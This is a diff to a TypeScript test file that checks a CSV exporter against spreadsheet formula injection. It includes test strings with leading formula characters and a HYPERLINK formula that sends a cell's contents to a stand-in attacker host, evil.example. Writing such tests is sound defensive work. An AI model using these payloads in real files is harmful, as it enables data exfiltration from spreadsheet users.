@@ -9,7 +9,36 @@ test('lines end with CRLF after the mark of UTF-8, and every text is quoted', ()
   expect(toCsv(rows)).toBe('\ufeff"School","Change"\r\n"Duke",-1\r\n"a ""b"", c\nd",2\r\n');
 });
 
-test.each(['=1+1', '+1', '-1', '@cmd', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠cmd'])(
+test.each(['=1+1', '+1', '-1', '@cmd', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠cmd'])(
   'a spreadsheet does not run %j',
-  (text) => expect(toCsv([[text]])).toBe(`\ufeff"'${text}"\r\n`),
+  (text) => expect(toCsv([[text]])).toBe(`\ufeff"${text.replace(/\S/, "'$&")}"\r\n`),
+);
+
+/** The cells as a spreadsheet reads them. Only at the beginning of a cell does a quotation mark protect separators. */
+function cellsOf(csv: string, separator: string): string[] {
+  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|)([^${separator}\r\n]*)(?:[${separator}\r\n]|$)`, 'y');
+  const cells: string[] = [];
+  while (cell.lastIndex < csv.length) {
+    const [, quoted = '', rest = ''] = cell.exec(csv) ?? [];
+    cells.push(quoted.replaceAll('""', '"') + rest);
+  }
+  return cells;
+}
+
+const hostile = [
+  'Hello;=HYPERLINK("http://evil.example/?"&A1,"Open");x',
+  'Hello; "=1+1";x',
+  'Hello;"-1',
+  'Hello;;+1',
+  'Hello\n=1+1\nx',
+  'Hello\r\n@cmd',
+  'Hello\t＝1',
+  'Hello|=1|x',
+];
+test.each(hostile.flatMap((text) => [',', ';', '\t', '|'].map((separator) => [text, separator] as const)))(
+  'a spreadsheet does not run a part of %j where the separator is %j',
+  (text, separator) => {
+    const csv = toCsv([['2026-01-01', 'parent@home.example', text, 7, text]]).slice(1);
+    expect(cellsOf(csv, separator).filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
+  },
 );
